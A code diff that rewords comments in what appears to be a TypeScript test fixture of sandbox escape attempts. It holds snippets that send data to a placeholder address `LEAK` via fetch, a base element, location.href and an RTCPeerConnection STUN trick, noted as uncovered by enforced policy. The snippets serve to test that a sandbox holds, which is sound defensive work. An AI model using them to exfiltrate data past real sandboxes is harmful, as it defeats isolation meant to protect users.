@@ -1,8 +1,8 @@
-/** Ways in which code may try to leave a worker or a document, to reach an address or what is stored. Each is a program whose last word
- *  is the address `LEAK`, or one that reads what it should not; what it prints begins with `reached` if it got something. */
+// Attempts of code to leave a worker or a document, and to reach an address or storage. Each is a program that ends
+// with the address `LEAK`, or one that reads forbidden data. Its output starts with `reached` if it succeeds.
 export type Escapes = Readonly<Record<string, string>>;
 
-/** What is tried both in a worker and in a document. */
+/** Attempts for both workers and documents. */
 const BOTH: Escapes = {
   fetch: 'await fetch(LEAK, { mode: "no-cors" })',
   'fetch with keepalive': 'await fetch(LEAK, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
@@ -91,7 +91,7 @@ const IN_DOCUMENT: Escapes = {
   'a base': `document.head.append(Object.assign(document.createElement('base'), { href: LEAK })); new Image().src = 'x.png'`,
 };
 
-/** The one way that no policy names which browsers enforce. */
+/** Peer connections, which no enforced policy directive covers. */
 export const PEERS: Escapes = {
   'a peer connection': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(LEAK).host }] });
     p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((yes) => setTimeout(yes, 400))`,
@@ -118,7 +118,7 @@ export const PEERS: Escapes = {
   ),
 };
 
-/** Ways to lead the document itself elsewhere: what is refused leaves an empty one. */
+/** Attempts to navigate the document itself. A refused navigation leaves an empty document. */
 export const NAVIGATIONS: Escapes = {
   'its own address': 'location.href = LEAK',
   'a link':
@@ -129,7 +129,7 @@ export const NAVIGATIONS: Escapes = {
 export const WORKER_ESCAPES: Escapes = BOTH;
 export const DOCUMENT_ESCAPES: Escapes = { ...BOTH, ...IN_DOCUMENT };
 
-/** All of them, one after the other; each prints what became of it. */
+/** Run all attempts one after another; each prints its result. */
 export function toEscapeProgram(escapes: Escapes, address: string): string {
   return Object.entries(escapes)
     .map(
